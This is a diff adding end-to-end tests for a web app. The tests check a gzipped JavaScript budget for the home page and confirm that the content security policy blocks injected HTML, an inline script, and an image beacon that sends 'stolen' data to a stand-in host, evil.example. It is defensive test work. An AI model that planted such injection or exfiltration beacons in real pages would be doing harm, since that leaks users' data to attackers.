@@ -1,0 +1,98 @@
+import type { Page } from "playwright-core";
+import { expect } from "vitest";
+import { test } from "../support/fixtures.ts";
+import { enterAsMember } from "../support/members.ts";
+import { compose, posts } from "../support/page-actions.ts";
+
+/** 100 kB are promised; what comes near is told before it is there. */
+const BUDGET_BYTES = 98_000;
+
+test("a guest's first load stays under 100 kB of gzipped JavaScript, all of it from here", async ({
+  app,
+  page,
+}) => {
+  const { size, others } = await loadHome(page, app.url);
+  expect(size).toBeLessThan(BUDGET_BYTES);
+  expect(others).toEqual([]);
+});
+
+test("so does a member's, who can write at once", async ({ app, page, context }) => {
+  await enterAsMember(context, app);
+  const { size, others } = await loadHome(page, app.url);
+  await compose(page).waitFor();
+  expect(size).toBeLessThan(BUDGET_BYTES);
+  expect(others).toEqual([]);
+});
+
+/** Opens the home page. How large its scripts are, in bytes, and what has come from elsewhere. */
+async function loadHome(page: Page, origin: string) {
+  const scripts: string[] = [];
+  const others: string[] = [];
+  page.on("request", (request) => {
+    if (request.resourceType() === "script") scripts.push(request.url());
+    if (new URL(request.url()).origin !== origin) others.push(request.url());
+  });
+  // The stream of new posts is what comes last.
+  const stream = page.waitForResponse((response) =>
+    (response.headers()["content-type"] ?? "").startsWith("text/event-stream"),
+  );
+  await page.goto("/");
+  await posts(page).first().waitFor();
+  await stream;
+  const sizes = await Promise.all(
+    scripts.map(async (url) => {
+      const { headers } = await fetch(url, { headers: { "accept-encoding": "gzip" } });
+      expect(headers.get("content-encoding")).toBe("gzip");
+      return Number(headers.get("content-length"));
+    }),
+  );
+  expect(scripts).not.toEqual([]);
+  return { size: sizes.reduce((sum, size) => sum + size, 0), others };
+}
+
+test.describe("the content security policy", () => {
+  test.override({
+    expectedComplaints: [/Trusted(HTML|Script)/u, /HTMLScriptElement was directly modified/u, /img-src/u],
+  });
+
+  test("a script that somebody got into the page does not run, and no HTML is made of a string", async ({
+    context,
+  }) => {
+    const page = await context.newPage();
+    await page.goto("/");
+    await posts(page).first().waitFor();
+    const outcome = await page.evaluate(async () => {
+      const stopped: string[] = [];
+      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+        stopped.push(effectiveDirective),
+      );
+      const attempts = [
+        () => document.body.insertAdjacentHTML("beforeend", "<b>injected</b>"),
+        () => {
+          const script = document.createElement("script");
+          script.append("window.injected = true");
+          document.body.append(script);
+        },
+        () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/?stolen" })),
+      ];
+      for (const attempt of attempts) {
+        try {
+          attempt();
+        } catch {
+          // Trusted Types throw.
+        }
+      }
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      return {
+        stopped: stopped.toSorted(),
+        injected: "injected" in window,
+        bold: document.querySelectorAll("b").length,
+      };
+    });
+    expect(outcome).toEqual({
+      stopped: ["img-src", "require-trusted-types-for", "require-trusted-types-for"],
+      injected: false,
+      bold: 0,
+    });
+  });
+});
